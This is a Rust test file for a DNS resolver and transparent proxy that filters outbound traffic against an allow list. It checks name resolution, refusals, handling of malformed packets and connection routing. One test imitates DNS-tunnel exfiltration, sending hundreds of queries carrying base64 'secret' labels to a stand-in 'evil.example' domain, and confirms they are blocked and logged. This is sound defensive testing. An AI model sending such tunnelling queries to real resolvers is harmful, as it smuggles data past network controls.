//! DNS and the transparent proxy: names that programs look up, and the connections that follow.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use egress::{Allow, Outcome, Refusal};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};

use crate::upstream::Upstream;
use crate::world::{Setup, World, echoes, exchange};

pub const A: u16 = 1;
const PTR: u16 = 12;
const TXT: u16 = 16;
const AAAA: u16 = 28;

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut out = vec![0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
    out.extend_from_slice(&[kind.to_be_bytes(), 1u16.to_be_bytes()].concat());
    out
}

/// The code of an answer and its address, if it has one.
fn read(question: &[u8], answer: &[u8]) -> (u8, Option<IpAddr>) {
    assert_eq!(&answer[..2], &question[..2], "the same number");
    assert_eq!(&answer[12..question.len()], &question[12..], "the question is repeated");
    let data = answer.get(question.len() + 12..).filter(|data| !data.is_empty());
    let address = data.map(|data| match data.try_into().map(|four: [u8; 4]| IpAddr::from(four)) {
        Ok(address) => address,
        Err(_) => IpAddr::from(<[u8; 16]>::try_from(data).expect("an address")),
    });
    assert_eq!(answer[7], u8::from(address.is_some()));
    (answer[3] & 15, address)
}

pub async fn look_up(world: &World, name: &str, kind: u16) -> (u8, Option<IpAddr>) {
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("a socket");
    let question = question(name, kind);
    socket.send_to(&question, world.dns_udp).await.expect("sent");
    let mut answer = [0; 512];
    let (count, _) = socket.recv_from(&mut answer).await.expect("an answer");
    read(&question, &answer[..count])
}

fn own(last: u8) -> Option<IpAddr> {
    Some(Ipv4Addr::new(127, 64, 0, last).into())
}

#[tokio::test]
async fn an_allowed_name_gets_an_address_of_its_own() {
    let world = Setup::new("a.example *.b.example ssh:c.example").start();
    assert_eq!(look_up(&world, "A.Example", A).await, (0, own(1)));
    assert_eq!(look_up(&world, "x.b.example", A).await, (0, own(2)));
    assert_eq!(look_up(&world, "c.example", A).await, (0, own(3)));
    assert_eq!(look_up(&world, "a.example", A).await, (0, own(1)));
    assert_eq!(look_up(&world, "a.example", AAAA).await, (0, None));
    assert_eq!(look_up(&world, "a.example", TXT).await, (0, None));
    assert_eq!(look_up(&world, "localhost", A).await, (0, Some(Ipv4Addr::LOCALHOST.into())));
    assert_eq!(look_up(&world, "app.localhost", AAAA).await, (0, Some("::1".parse().expect("an address"))));
    assert_eq!(look_up(&world, "1.0.0.127.in-addr.arpa", PTR).await, (3, None));
    assert!(world.proxy.log().is_empty() && world.lookups().is_empty());
}

#[tokio::test]
async fn a_name_that_carries_data_out_ends_in_the_log() {
    let world = Setup::new("a.example").start();
    for part in 0..300 {
        let name = format!("{part}-c2VjcmV0.tunnel.evil.example");
        assert_eq!(look_up(&world, &name, if part % 2 == 0 { A } else { TXT }).await, (5, None), "{name}");
    }
    assert_eq!(look_up(&world, "b.example", A).await.0, 5);
    assert_eq!(look_up(&world, "127.0.0.1", A).await.0, 5);
    assert!(world.lookups().is_empty(), "nobody outside was asked");
    assert!(
        world.is_refused("b.example", Refusal::NotListed) && world.is_refused("127.0.0.1", Refusal::Address)
    );
    let log = world.proxy.log();
    assert_eq!(log.len(), base::limits::egress::LOG_MAX);
    assert_eq!(world.proxy.forgotten(), 302 - log.len() as u64);
    assert!(log.iter().all(|tried| tried.port.is_none()));
    assert!(world.reports().len() <= log.len());
}

#[tokio::test]
async fn questions_come_over_connections_too() {
    let world = Setup::new("a.example").start();
    let mut stream = TcpStream::connect(world.dns_tcp).await.expect("the proxy listens");
    for (name, expected) in [("a.example", (0, own(1))), ("evil.example", (5, None))] {
        let question = question(name, A);
        let framed = [&(question.len() as u16).to_be_bytes()[..], &question].concat();
        stream.write_all(&framed).await.expect("written");
        let length = stream.read_u16().await.expect("a length");
        let mut answer = vec![0; usize::from(length)];
        stream.read_exact(&mut answer).await.expect("an answer");
        assert_eq!(read(&question, &answer), expected, "{name}");
    }
    // Too long, and no question at all: the connection ends.
    assert_eq!(exchange(world.dns_tcp, &[0xff; 70_000]).await, "");
    assert_eq!(exchange(world.dns_tcp, &[0, 3, 1, 2, 0x80]).await, "");
}

#[tokio::test]
async fn what_is_no_question_gets_no_answer_and_does_no_harm() {
    let world = Setup::new("a.example").start();
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("a socket");
    for bytes in [&b""[..], &[0; 3], &[0xff; 600], &[0, 0, 0x80, 0, 0, 1]] {
        socket.send_to(bytes, world.dns_udp).await.expect("sent");
    }
    assert_eq!(look_up(&world, "a.example", A).await, (0, own(1)));
}

#[tokio::test]
async fn a_connection_to_a_names_address_goes_on_to_that_name() {
    let upstream = Upstream::echo().await;
    let port = upstream.port();
    let mut setup = Setup::new(&format!("a.example:{port}")).host("a.example", &["127.0.0.1"]);
    setup.transparent_port = port;
    let world = setup.public(upstream.address).start();
    // Before the name was asked for, the address is nobody's.
    assert_eq!(exchange(world.transparent, b"hello").await, "");
    assert!(world.proxy.log().is_empty() && upstream.connections() == 0);
    let (_, address) = look_up(&world, "a.example", A).await;
    let address = SocketAddr::new(address.expect("an address"), port);
    assert_eq!(address, world.transparent);
    let mut stream = TcpStream::connect(address).await.expect("the proxy listens");
    assert!(echoes(&mut stream, "\x16\x03\x01 as it is").await);
    let tried = world.only();
    assert_eq!((tried.host.as_str(), tried.port, tried.outcome), ("a.example", Some(port), Outcome::Reached));
    // The address is still the name's when the name is no longer allowed, and then leads nowhere.
    world.proxy.set_allowed(Allow::default());
    assert_eq!(exchange(address, b"hello").await, "");
    assert_eq!(upstream.connections(), 1);
    assert_eq!(look_up(&world, "a.example", A).await.0, 5);
}
